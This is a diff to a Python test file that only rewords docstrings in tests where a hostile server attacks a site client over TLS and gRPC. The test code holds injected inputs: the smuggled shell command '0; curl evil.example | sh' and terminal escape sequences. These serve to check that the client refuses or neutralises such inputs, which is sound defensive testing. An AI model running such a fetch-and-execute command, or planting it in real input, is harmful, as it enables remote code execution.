@@ -1,6 +1,7 @@
 """A server that is up to no good, and a real site: what it tries over TLS and gRPC, and fails at.
 
-The site is `wardround-site join` as a program; the server is the tests' own, with or without the right keys.
+The site is `wardround-site join` as a program. The server belongs to the tests, with or
+without the right keys.
 """
 
 from __future__ import annotations
@@ -201,7 +202,7 @@ def ledger_bytes(world: World) -> int:
 
 
 def test_messages_that_do_not_count_fill_no_disk(world: World) -> None:
-    """Whoever can put messages into the queue can do so all day: unsigned ones, and ones that it repeats."""
+    """An attacker can queue messages all day: unsigned ones, and repeated ones."""
     kind = "\x1b[2J" + "x" * 3000
     first = world.fleet.ask(
         "unsigned", pack_hello(None), world.key, envelope=lambda said: None
@@ -240,7 +241,7 @@ def _unsigned(said: dict[str, str]) -> None:
 
 
 def test_a_wide_message_that_is_signed_costs_three_short_lines(world: World) -> None:
-    """Thousands of records and fields with names of the server's choice, under a type of its choice."""
+    """Thousands of records and fields; the server chooses their names and the type."""
     wide = RecordDict(
         {f"{number}\x1b[2J": ConfigRecord({"a": 1}) for number in range(300)}
     )
@@ -256,7 +257,7 @@ def test_a_wide_message_that_is_signed_costs_three_short_lines(world: World) -> 
 
 
 def test_a_hash_that_is_none_is_not_shown_as_a_command(world: World) -> None:
-    """The site names the line that it lacks in a command to be typed: the server could write that command."""
+    """The site prints the missing line in a command: the server could forge that command."""
     word = "0; curl evil.example | sh"
     sent = world.hello(change=lambda s: replace(s, ledger=word))
     assert world.fleet.refusal_of(sent) == "damaged"
@@ -265,7 +266,7 @@ def test_a_hash_that_is_none_is_not_shown_as_a_command(world: World) -> None:
 
 
 def test_a_plan_that_has_no_hash_does_not_wedge_the_site(world: World) -> None:
-    """It was part of a path: too long a name looked like a disk that is full, which is waited for."""
+    """It was part of a path: a name that is too long looked like a full disk."""
     run = RunStatement(
         "a run", public_line(world.fleet.run_key), 0.0, time.time() + 3600, "x" * 5000
     )
